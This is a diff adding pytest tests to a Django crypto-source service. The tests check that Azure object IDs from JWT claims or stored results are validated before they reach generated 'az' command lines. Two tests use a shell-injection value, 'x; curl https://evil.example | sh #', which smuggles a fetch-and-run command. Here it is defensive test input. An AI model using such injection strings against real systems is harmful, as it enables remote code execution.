@@ -6,13 +6,17 @@ import shlex
 from pathlib import Path
 from typing import Any
 
+import jwt
 import pytest
 from django.conf import settings
 
 from cryptosources.models import CryptoSource
 from cryptosources.providers.api import Right
+from cryptosources.providers.azure import health
 from cryptosources.providers.azure import rights as azure
-from cryptosources.services.rights import FULL_CYCLE, ROLE_FILE, needed_rights
+from cryptosources.services.rights import FULL_CYCLE, ROLE_FILE, needed_rights, rights_report
+from tests.cryptosources.factories import azure_settings, make_source
+from tests.cryptosources.finished import OBJECT_ID, finish_test
 
 FIRST_SOURCE = Path(settings.BASE_DIR) / "docs" / "first-source.md"
 
@@ -80,6 +84,34 @@ def test_an_unknown_object_id_is_a_place_to_fill_in() -> None:
     assert f"--assignee-object-id {azure.OBJECT_ID_UNKNOWN} " in line
     looked_up = shlex.split(azure.object_id_command("1111-2222"))
     assert looked_up == ["az", "ad", "sp", "show", "--id", "1111-2222", "--query", "id", "--output", "tsv"]
+
+
+@pytest.mark.parametrize("told", ["x; curl https://evil.example | sh #", "2222", "", "None"])
+def test_what_is_no_object_id_does_not_reach_a_shell_line(told: str) -> None:
+    """An access token's claims are somebody else's text until they prove to be what they are called."""
+    token = jwt.encode({"oid": told}, "k" * 32, algorithm="HS256")
+    assert health.object_id_in(token) == ""
+    assert azure.object_id_or_nothing(told) == ""
+
+
+def test_an_object_id_is_written_in_one_way() -> None:
+    token = jwt.encode({"oid": OBJECT_ID.upper()}, "k" * 32, algorithm="HS256")
+    assert health.object_id_in(token) == OBJECT_ID
+
+
+def test_a_token_that_is_none_names_nobody() -> None:
+    assert health.object_id_in("opaque") == ""
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("licensed")
+def test_a_stored_object_id_is_looked_at_before_it_is_shown() -> None:
+    source = make_source(azure_settings())
+    finish_test(source, azure.DATA_ACTIONS[Right.SIGN], object_id="x; curl https://evil.example | sh #")
+    repair = rights_report(source=source, test=source.tests.get()).repair
+    assert repair is not None
+    assert f"--assignee-object-id {azure.OBJECT_ID_UNKNOWN} " in repair.assign_line
+    assert repair.object_id_line
 
 
 @pytest.mark.parametrize(
